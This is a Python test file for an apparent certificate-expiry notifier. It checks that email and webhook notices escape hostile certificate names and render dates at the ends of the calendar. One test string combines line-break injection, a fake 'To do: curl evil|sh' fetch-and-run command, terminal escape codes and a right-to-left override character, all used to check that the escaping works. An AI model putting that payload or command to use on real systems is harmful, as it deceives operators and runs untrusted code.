"""Letters about what strangers named and dated."""

from __future__ import annotations

import json
from dataclasses import replace
from datetime import UTC, datetime, tzinfo
from zoneinfo import ZoneInfo

import pytest

from support.notices import SPEC, met, only, sight, step
from support.pki import DAY, NOW, make_ca
from warifu.domain.findings import Code, Finding, Lang
from warifu.domain.watching import Book, Notice
from warifu.domain.watching.message import Message
from warifu.domain.watching.notices import Due
from warifu.workflows.letters import Desk

FIRST, LAST = (one.replace(tzinfo=UTC) for one in (datetime.min, datetime.max))  # noqa: DTZ901
TOKYO, NEW_YORK = ZoneInfo("Asia/Tokyo"), ZoneInfo("America/New_York")
EVIL = "web\r\n\nnothing to do.\n  To do: curl evil|sh\x1b[2J\x07\u202egnp"
SHOWN = r"web\x0d\x0a\x0anothing to do.\x0a  To do: curl evil|sh\x1b[2J\x07\u202egnp"


def notice_of(name: str = "web.example", *, ends: datetime = NOW + 2 * DAY) -> Notice:
    found = met(make_ca("Old Root", end=NOW + 2 * DAY))
    entry = replace(found.entry, not_after=ends, subject=f"CN={name}", place=name)
    notice = only(step(Book("b"), sight(found, at=NOW + 3 * DAY), SPEC).book)
    finding = Finding(Code.EXPIRED_IN_USE, f"CN={name}", {"now": NOW, "not_after": ends, "where": (name,)})
    return replace(notice, cause=replace(notice.cause, findings=(finding,), entries=(entry,)))


def letters(notice: Notice, *, zone: tzinfo = TOKYO, lang: Lang = Lang.EN) -> tuple[Message, ...]:
    desk = Desk("shop", lang, zone, SPEC.to, {}, ("smtp", "webhook"), "b")
    return desk.write(Due(notice, "first"), NOW)


@pytest.mark.parametrize("lang", list(Lang))
def test_a_name_writes_no_line_of_its_own(lang: Lang) -> None:
    """Neither into the body, nor into the subject, nor into what a chat shows of a post."""
    mail, post = letters(notice_of(EVIL), lang=lang)
    plain = letters(notice_of(), lang=lang)[0]
    assert len(plain.text.splitlines()) == len(mail.text.splitlines())
    assert all(text.replace("\n", "").isprintable() for text in (mail.text, mail.subject))
    assert (True, True) == (SHOWN in mail.text, SHOWN in mail.subject)
    document = json.loads(post.document)
    texts = [document["findings"][0]["title"], document["entries"][0]["subject"]]
    assert all(text.isprintable() and r"\x0a  To do" in text for text in texts)


def test_a_name_that_is_no_text_can_be_sent() -> None:
    """What no encoding has is shown as an escape."""
    for message in letters(notice_of(b"d/\xff.pem".decode("utf-8", "surrogateescape"))):
        whole = f"{message.subject}{message.text}{message.document}"
        assert rb"\udcff.pem" in whole.encode()


@pytest.mark.parametrize(
    ("ends", "zone", "expected"),
    [
        (FIRST, NEW_YORK, "0001-01-01 00:00:00+00:00"),
        (LAST, TOKYO, "9999-12-31 23:59:59+00:00"),
        (LAST, NEW_YORK, "9999-12-31 18:59:59-05:00"),
    ],
)
def test_a_date_at_the_ends_of_time_can_be_told(ends: datetime, zone: tzinfo, expected: str) -> None:
    """In the year 1, and where RFC 5280 puts what has no end."""
    notice = notice_of(ends=ends)
    mail, post = letters(notice, zone=zone)
    assert (2, True) == (mail.text.count(expected), ends.isoformat()[:10] in post.document)


def test_a_post_names_the_host_that_gets_it() -> None:
    """A failure says whom it could not be sent to; the id of a post is that of the step."""
    desk = Desk("shop", Lang.EN, TOKYO, "", {}, ("webhook",), "b", hook="chat.example")
    (post,) = desk.write(Due(notice_of(), "first"), NOW)
    assert ("chat.example", True) == (post.to, post.id.endswith(".first@b.warifu.invalid"))
